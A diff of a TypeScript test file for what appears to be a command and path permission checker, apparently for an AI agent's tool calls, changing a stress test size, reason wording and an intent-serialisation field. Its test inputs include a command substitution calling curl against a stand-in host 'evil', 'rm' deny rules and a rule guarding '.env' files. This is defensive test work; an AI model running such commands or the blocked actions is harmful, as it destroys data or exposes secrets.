@@ -127,8 +127,8 @@ describe("commands", () => {
     expect(effect(command("git status; $(curl evil)"), rules)).toBe("ask");
   });
 
-  test("a deny on the last of ten thousand parts still denies", () => {
-    const text = `${"ls; ".repeat(9_999)}rm x`;
+  test("a deny on the last of three thousand parts still denies", () => {
+    const text = `${"ls; ".repeat(2_999)}rm x`;
     expect(effect(command(text), [{ allow: "execute" }, { deny: "execute", command: "rm *" }])).toBe("deny");
   });
 
@@ -171,7 +171,7 @@ describe("commands", () => {
     expect(effect(command("env rm x"), rules, { default: "allow" })).toBe("deny");
     expect(effect(command("$X x"), rules, { default: "allow" })).toBe("ask");
     const { reason } = decide(command("$X x"), { ...policy(rules), default: "allow" });
-    expect(reason).toContain(', and may hide what a rule speaks of: deny execute "rm *"');
+    expect(reason).toContain(', and may hide what a rule names: deny execute "rm *"');
   });
 });
 
@@ -228,11 +228,11 @@ describe("paths", () => {
       effect: "ask",
       rule: "deny read **/.env",
       reason:
-        "cat is given /ws/notes, and nothing can be known about what it opens there: it may come upon what the rule speaks of",
+        "cat is given /ws/notes, and nothing can be known about what it opens there: it may come upon what the rule names",
     });
     expect(decide(command("cat *"), policy(rules))).toMatchObject({
       effect: "ask",
-      reason: "a word of the command may name what the rule speaks of",
+      reason: "a word of the command may name a path that the rule covers",
     });
   });
 
@@ -338,10 +338,11 @@ test("every field of an intent is in its text, which must stay as it is: answers
     env: { LANG: "C" },
     paths: [{ path: "/ws/a", named: "/ws/b", access: "read" }],
     hosts: ["https://example.com"],
+    contents: { "/ws/run.sh": "def" },
     baseHashes: { "/ws/a": "nothing" },
   };
   expect(intentText(whole)).toBe(
-    '{"baseHashes":{"/ws/a":"nothing"},"command":["ls","-l"],"cwd":"/ws","env":{"LANG":"C"},"hosts":["https://example.com"],' +
+    '{"baseHashes":{"/ws/a":"nothing"},"command":["ls","-l"],"contents":{"/ws/run.sh":"def"},"cwd":"/ws","env":{"LANG":"C"},"hosts":["https://example.com"],' +
       '"input":{"a":"x","b":[1,{"c":"é","d":null}]},"isKindGuessed":true,"kind":"execute",' +
       '"paths":[{"access":"read","named":"/ws/b","path":"/ws/a"}],"server":"shell","tool":"run"}',
   );
